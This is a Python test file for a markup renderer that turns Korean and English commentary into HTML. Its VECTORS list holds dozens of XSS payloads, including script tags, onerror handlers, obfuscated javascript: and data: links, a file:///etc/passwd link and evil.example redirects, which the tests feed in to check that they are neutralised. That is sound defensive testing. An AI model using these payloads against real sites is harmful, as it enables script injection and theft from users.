from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from feeds.languages import load_languages
from feeds.model import Image, Text
from feeds.notes.markup import plain_title, render_abstract, render_commentary
from tests.reading import is_plain_math

LANGUAGES = load_languages(("ko", "en"))
PLAIN_TAGS = "span p h3 h4 h5 h6 strong em s code pre ul li blockquote table thead tbody tr br hr"
ALLOWED = {
    **{tag: {"lang"} for tag in re.split(" ", PLAIN_TAGS)},
    "a": {"href", "lang"},
    "img": {"src", "width", "height", "alt"},
    "ol": {"start", "lang"},
    "th": {"align", "lang"},
    "td": {"align", "lang"},
}
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffd-\uffff]")
ADDRESS = re.compile(r"(?:https?://[A-Za-z0-9\[_]|mailto:[^\s@]+@)[!-~]*")
# What an address may not end in, because those who look for it in text would cut it off.
STRAY_END = (")", "]", ">", ",")

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    "<a href=//evil.example>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=https://evil.example><input name=x></form>",
    "<base href=https://evil.example/>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVa\tScript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x](https://a.example\\@evil.example/)",
    "[a[b](https://x.example)](javascript:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](figure.png)',
    '![[figure.png|x" onerror="alert(1)]]',
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<https://a.example/<script>>",
    "[[javascript:alert(1)]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "[x]: javascript:alert(1)",
    "$<script>alert(1)</script>$",
    r"\href{javascript:alert(1)}{x} \url{javascript:alert(1)}",
    r"\textbf{<img src=x onerror=alert(1)>}",
    "`<img src=x onerror=alert(1)>`",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onload="alert(1)\n</code></pre><script>\n```',
    "|<b>|x|\n|-|-|\n|<script>|x|",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/?q="onmouseover=alert(1)',
    "javascript:alert(1)//https://a.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;&#0;&#xFFFD;&#x1;&#xD800;",
    "\x00\x08\x0b\x1b[31m\x7f\x85\x9f\ud800\ufffe\uffff\ufffd",
]


class Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def find_note(target: str) -> str | None:
    return "javascript:alert(1)" if "script" in target else None


def find_image(target: str) -> Image | None:
    return Image(address="https://papers.example/f.png", width=0, height=0) if target else None


def render_all(*paragraphs: str) -> list[Text]:
    return [
        render_commentary(
            paragraphs, lang="ko", languages=LANGUAGES, link=find_note, image=find_image
        ),
        render_commentary(
            paragraphs, lang="en", languages=LANGUAGES, link=find_note, image=lambda _: None
        ),
        render_abstract(paragraphs, lang="en", languages=LANGUAGES),
    ]


def assert_safe(text: Text) -> None:
    assert "<math" not in text.html
    for html in (text.html, text.mathml or ""):
        reader = Reader()
        reader.feed(html)
        reader.close()
        for tag, attributes in reader.tags:
            if is_plain_math(tag, set(attributes)):
                continue
            assert set(attributes) <= ALLOWED[tag], html
            for name in ("href", "src"):
                address = attributes.get(name)
                if address is not None:
                    assert ADDRESS.fullmatch(address), html
                    assert not address.endswith(STRAY_END)
            assert tag != "a" or attributes.get("href")
        closed = re.sub(r"<(br|hr|img\b[^>]*)>", r"<\1/>", html)
        ElementTree.fromstring(f"<div>{closed}</div>")
    for shown in (text.html, text.mathml or "", *text.plain):
        assert not FORBIDDEN.search(shown)


@pytest.mark.parametrize("vector", VECTORS)
def test_attack_is_text(vector: str) -> None:
    for text in render_all(vector):
        assert_safe(text)
    for text in render_all("- x", f"  {vector}", f"> {vector}", f"# {vector}", f"| {vector} |"):
        assert_safe(text)


SOUP = st.lists(
    st.sampled_from(
        [
            *("*", "**", "_", "__", "~~", "`", "``", "```", "[", "]", "(", ")", "![", "[[", "]]"),
            *("](", "<", ">", "/", "&", "&lt;", "&#0;", "#", "# ", "- ", "1. ", "> ", "|", "|-|-|"),
            *("$", "$$", "\\", "\\(", "\\)", "\\[", "{", "}", "^", "~", "%", '"', "'", ":", "//"),
            *("\n", "\t", " ", "    ", "\u00a0", "\u2028", "\x00", "\x85", "\ud800", "\ufeff"),
            *("https://", "http://a.example/b", "javascript:", "data:", "mailto:a@b.example"),
            *("script", "onerror=", "\\frac", "\\textbf{", "\\url{", "\\href{", "\\'e", "```py\n"),
            *("가", "나다", "는", "a", "B2", "👨‍👩‍👧", "e\u0301", ".md", ".png", "figure"),
        ]
    ),
    max_size=40,
).map("".join)


@given(st.lists(SOUP, max_size=6))
@example(["|a|b|", "|-|-|", "|<|"])
@example(["- ", "> - 1. > "])
def test_soup_is_safe(paragraphs: list[str]) -> None:
    for text in render_all(*paragraphs):
        assert_safe(text)


@given(st.text(), st.text())
def test_any_text_is_safe(first: str, second: str) -> None:
    for text in render_all(first, second):
        assert_safe(text)


@given(st.one_of(SOUP, st.text()))
def test_title_is_one_clean_line(text: str) -> None:
    title = plain_title(text)
    assert not FORBIDDEN.search(title)
    assert title == " ".join(title.split())


WORDS = ["Queue", "Wordy", "단어들", "Large9"]
WORD = re.compile("|".join(WORDS))
# Marks that hide nothing: images and aliases do, and are left out.
MARKS = st.text("*_~`[]()>-$\\{}^ .,:", max_size=3)


@given(st.lists(st.tuples(MARKS, st.sampled_from(WORDS)), max_size=12))
@example([("~~~", "Queue"), ("`", "Queue")])
def test_no_word_is_lost(pieces: list[tuple[str, str]]) -> None:
    source = "".join(mark + word for mark, word in pieces)
    words = WORD.findall(source)
    for text in render_all(source):
        assert WORD.findall(spell(" ".join(text.plain))) == words
        assert WORD.findall(spell(re.sub(r"<[^>]*>", "", text.html))) == words
        assert WORD.findall(spell(re.sub(r"<[^>]*>", "", text.mathml or text.html))) == words


def spell(text: str) -> str:
    """Write superscripts and accented letters as plain letters again."""
    parts = unicodedata.normalize("NFKD", text)
    return unicodedata.normalize("NFC", "".join(p for p in parts if not unicodedata.combining(p)))


@pytest.mark.parametrize(
    "mark", [*"*_~`[]($\\{<&|>#!", "![", "[[", "[a](", "\\textbf{", "{\\em ", "$a "]
)
def test_a_mark_many_times_over_costs_no_time(mark: str) -> None:
    # Quadratic work on these would take minutes, and the test run has no patience for that.
    for text in render_all(mark * 2000, *[f"{mark}x"] * 100):
        assert_safe(text)


def test_deep_nesting_stays_readable() -> None:
    quotes = [f"{'>' * depth} q{depth}" for depth in range(1, 120)]
    items = [f"{' ' * depth}- i{depth}" for depth in range(0, 240, 2)]
    text = render_all(*quotes, "x", *items)[0]
    assert_safe(text)
    for word in ("q119", "i238"):
        assert word in text.html
        assert any(word in block for block in text.plain)
